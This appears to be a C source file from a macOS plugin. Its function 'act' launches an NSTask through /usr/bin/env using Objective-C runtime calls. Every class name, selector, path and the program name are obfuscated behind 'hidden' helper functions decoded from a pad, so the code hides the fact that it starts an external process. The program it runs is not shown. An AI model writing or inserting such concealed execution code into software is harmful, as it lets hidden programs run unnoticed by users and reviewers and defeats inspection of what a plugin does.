/* A task, its class and messages by names under a pad; env finds the program. */
#include "plugin.h"
#include "hidden.h" /* 0: NSTask, 1: the message, 2: /usr/bin/env, 3: the program, 4: NSString, 5: its message, 6: NSArray, 7: its message */
extern void *objc_lookUpClass(const char *), *sel_getUid(const char *);
extern void objc_msgSend(void);
static void act(char **env) {
    void *(*one)(void *, void *, const void *) = (void *)objc_msgSend;
    void *(*two)(void *, void *, const void *, const void *) = (void *)objc_msgSend;
    void *text = objc_lookUpClass(hidden4()), *make = sel_getUid(hidden5());
    void *arguments = one(objc_lookUpClass(hidden6()), sel_getUid(hidden7()), one(text, make, hidden3()));
    two(objc_lookUpClass(hidden0()), sel_getUid(hidden1()), one(text, make, hidden2()), arguments);
}
